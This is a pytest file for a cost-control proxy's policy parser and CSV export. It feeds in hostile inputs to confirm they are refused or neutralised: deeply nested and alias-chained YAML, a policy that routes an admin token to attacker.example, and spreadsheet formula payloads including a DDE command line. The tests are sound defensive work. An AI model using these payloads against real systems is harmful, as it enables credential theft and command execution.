"""Hostile policy text and settings: deep nesting, secrets named as upstream keys, CSV formulas."""

from __future__ import annotations

import pytest

from costwarden.core.csvsafe import safe_cell
from costwarden.errors import PolicyError
from costwarden.policy import env_names, env_problems, parse_policy
from costwarden.policy.yamlnodes import MAX_DEPTH, parse_yaml

UPSTREAMS = """
version: 1
upstreams:
  openai: {type: openai, base_url: https://api.openai.com/v1, api_key_env: OPENAI_API_KEY}
  anthropic: {type: anthropic, base_url: https://api.anthropic.com, api_key_env: ANTHROPIC_API_KEY}
departments: {SALES: {}}
"""


def problems_of(text: str) -> list[str]:
    with pytest.raises(PolicyError) as info:
        parse_policy(text, source="reload")
    return info.value.problems


@pytest.mark.parametrize(("text", "line"), [
    ("departments: " + "[" * 5000 + "]" * 5000, 1),
    ("departments: " + "{a: " * 5000 + "1" + "}" * 5000, 1),
    ("departments:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 2000)), MAX_DEPTH),
], ids=["flow-lists", "flow-mappings", "block-mappings"])
def test_a_deeply_nested_document_is_refused_in_one_sentence(text: str, line: int) -> None:
    assert problems_of(text) == [f"YAML syntax error: nesting deeper than {MAX_DEPTH} levels "
                                 f"(a policy needs about 6) (line {line})"]


def test_aliases_cannot_nest_deeper_than_the_text() -> None:
    # each anchor is shallow, but every one holds the previous: expanded, 300 levels deep
    chain = "\n".join(f"a{i}: &a{i} [{f'*a{i - 1}' if i else 1}]" for i in range(300))
    [problem] = problems_of(chain)
    assert f"nesting deeper than {MAX_DEPTH} levels" in problem


def test_nesting_up_to_the_limit_is_read() -> None:
    # the top mapping, MAX_DEPTH - 2 lists, and the number in the innermost one
    document = parse_yaml("a: " + "[" * (MAX_DEPTH - 2) + "1" + "]" * (MAX_DEPTH - 2))
    value = document.data["a"]
    for _ in range(MAX_DEPTH - 3):
        value = value[0]
    assert value == [1] and document.problems == []


def test_env_names_are_the_start_up_allow_list() -> None:
    assert env_names(parse_policy(UPSTREAMS)) == {"OPENAI_API_KEY", "ANTHROPIC_API_KEY"}


def test_a_policy_naming_a_variable_outside_the_allow_list_is_reported() -> None:
    hostile = parse_policy(UPSTREAMS.replace(
        "base_url: https://api.openai.com/v1, api_key_env: OPENAI_API_KEY",
        "base_url: http://attacker.example/v1, api_key_env: COSTWARDEN_ADMIN_TOKEN"))
    [problem] = env_problems(hostile, {"OPENAI_API_KEY", "ANTHROPIC_API_KEY"})
    assert problem.startswith("upstreams.openai.api_key_env: COSTWARDEN_ADMIN_TOKEN is not among the variables")
    assert "(ANTHROPIC_API_KEY, OPENAI_API_KEY)" in problem and "--upstream-env COSTWARDEN_ADMIN_TOKEN" in problem
    assert env_problems(hostile, {"COSTWARDEN_ADMIN_TOKEN", "ANTHROPIC_API_KEY"}) == []


def test_the_providers_own_endpoints_with_their_usual_variables_are_always_allowed() -> None:
    # no upstreams section: each provider's public API, google included
    defaults = parse_policy("version: 1\ndepartments: {SALES: {}}\n")
    assert env_problems(defaults, {"OPENAI_API_KEY"}) == []
    # the usual variable at another host is not a default
    moved = parse_policy(UPSTREAMS.replace("https://api.anthropic.com", "http://127.0.0.1:9"))
    assert [p.split(":")[0] for p in env_problems(moved, {"OPENAI_API_KEY"})] == ["upstreams.anthropic.api_key_env"]


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  "=cmd|' /C calc'!A0", "-", "-1e5"])
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell(text, numeric=True) == "'" + text


@pytest.mark.parametrize("text", ["-12.50", "-3", "0", "1234.5"])
def test_numbers_stay_numbers_in_numeric_columns(text: str) -> None:
    assert safe_cell(text, numeric=True) == text


def test_plain_text_is_unchanged() -> None:
    assert safe_cell("MARKETING") == "MARKETING" and safe_cell("") == "" and safe_cell("a=b") == "a=b"
